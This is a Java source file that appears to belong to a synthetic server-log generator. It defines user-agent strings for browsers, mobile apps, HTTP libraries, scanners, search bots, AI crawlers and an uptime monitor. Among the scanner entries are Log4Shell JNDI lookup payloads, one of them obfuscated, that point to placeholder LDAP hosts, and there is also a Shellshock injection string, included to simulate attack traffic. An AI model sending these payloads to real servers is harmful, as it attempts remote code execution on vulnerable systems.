package dev.weir.generator;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

/** User agents as servers see them. */
final class Agents {
    static final Software[] BROWSERS = browsers();

    static final Software[] APPS = {
        library("okhttp/4.12.0", "okhttp"),
        phone("ExampleShop/5.8.1 (iPhone; iOS 18.1; Scale/3.00)"),
        phone("ExampleShop/412 CFNetwork/1568.200.51 Darwin/24.1.0"),
        phone("ExampleShop/5.8.0 (Linux; U; Android 14; \"Pixel 8\")"),
        library("python-requests/2.32.3", "python-requests"),
        library("axios/1.7.7", "axios"),
        library("Go-http-client/2.0", "Go-http-client"),
    };

    /** What scanners call themselves; null is nothing at all. */
    static final Software[] SCANNERS = {
        Software.robot(null, "-", "unknown"),
        Software.robot("Mozilla/5.0 zgrab/0.x", "zgrab", "scanner"),
        library("python-requests/2.27.1", "python-requests"),
        Software.robot(
                "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "CensysInspect", "scanner"),
        library("Go-http-client/1.1", "Go-http-client"),
        library("curl/7.68.0", "curl"),
        Software.robot("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan", "scanner"),
        Software.person("${jndi:ldap://198.51.100.23:1389/Exploit}", "other"),
        Software.person("${${lower:j}ndi:${lower:l}dap://203.0.113.99/a}", "other"),
        Software.person("() { :; }; echo \"vulnerable\"", "other"),
    };

    private static final String GECKO = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko";

    static final Bot[] SEARCH_BOTS = {
        new Bot(
                search("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot"),
                new Network("66.249.66", "US"),
                true),
        new Bot(
                search(
                        GECKO + "; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/130.0.6723.91"
                                + " Safari/537.36",
                        "Googlebot"),
                new Network("66.249.68", "US"),
                true),
        new Bot(
                search(
                        GECKO + "; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76"
                                + " Safari/537.36",
                        "bingbot"),
                new Network("157.55.39", "US"),
                true),
        new Bot(
                search("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "YandexBot"),
                new Network("5.255.253", "RU"),
                false),
        new Bot(
                search(
                        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko)"
                                + " Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
                        "Applebot"),
                new Network("17.22.237", "US"),
                true),
    };

    static final Bot[] AI_CRAWLERS = {
        new Bot(
                Software.robot(
                        GECKO + "; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot", "ai_training"),
                new Network("20.171.207", "US"),
                true),
        new Bot(
                Software.robot(
                        GECKO + "; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "ClaudeBot", "ai_training"),
                new Network("216.73.216", "US"),
                false),
        new Bot(
                Software.robot(
                        GECKO + "); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot",
                        "OAI-SearchBot",
                        "ai_search"),
                new Network("51.8.102", "US"),
                true),
        new Bot(
                Software.robot(
                        GECKO + "); compatible; ChatGPT-User/1.0; +https://openai.com/bot", "ChatGPT-User", "ai_fetch"),
                new Network("9.129.0", "GB"),
                true),
        new Bot(
                Software.robot(
                        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36"
                                + " (compatible; Bytespider; spider-feedback@bytedance.com)",
                        "Bytespider",
                        "ai_training"),
                new Network("47.128.40", "SG"),
                false),
    };

    static final Bot MONITOR = new Bot(
            Software.robot(
                    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
                    "UptimeRobot",
                    "monitoring"),
            new Network("69.162.124", "US"),
            false);

    private Agents() {}

    /**
     * A robot.
     *
     * @param network where it is seen
     * @param published whether its operator publishes this network as the robot's
     */
    record Bot(Software agent, Network network, boolean published) {}

    /** Whether a robot's operator publishes where it is. */
    static boolean isPublished(String bot) {
        return Stream.of(SEARCH_BOTS, AI_CRAWLERS)
                .flatMap(Arrays::stream)
                .anyMatch(one -> one.published() && one.agent().bot().equals(bot));
    }

    private static Software search(String text, String name) {
        return Software.robot(text, name, "search");
    }

    private static Software library(String text, String name) {
        return Software.robot(text, name, "library");
    }

    private static Software phone(String text) {
        return Software.person(text, "mobile");
    }

    private static Software desktop(String text) {
        return Software.person(text, "desktop");
    }

    private static Software[] browsers() {
        List<Software> agents = new ArrayList<>();
        String[] desktops = {"Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64"};
        for (int version = 126; version <= 131; version++) {
            for (String desktop : desktops) {
                agents.add(desktop("Mozilla/5.0 (" + desktop + ") AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
                        + version + ".0.0.0 Safari/537.36"));
                agents.add(desktop("Mozilla/5.0 (" + desktop + "; rv:" + version + ".0) Gecko/20100101 Firefox/"
                        + version + ".0"));
            }
            agents.add(
                    desktop("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
                            + version + ".0.0.0 Safari/537.36 Edg/" + version + ".0.0.0"));
            agents.add(phone("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
                    + version + ".0.0.0 Mobile Safari/537.36"));
            agents.add(phone("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko)"
                    + " SamsungBrowser/" + (version - 103) + ".0 Chrome/115.0.0.0 Mobile Safari/537.36"));
        }
        for (int minor = 0; minor <= 6; minor++) {
            agents.add(phone("Mozilla/5.0 (iPhone; CPU iPhone OS 17_" + minor
                    + " like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17." + minor
                    + " Mobile/15E148 Safari/604.1"));
            agents.add(desktop("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15"
                    + " (KHTML, like Gecko) Version/17." + minor + " Safari/605.1.15"));
        }
        return agents.toArray(Software[]::new);
    }
}
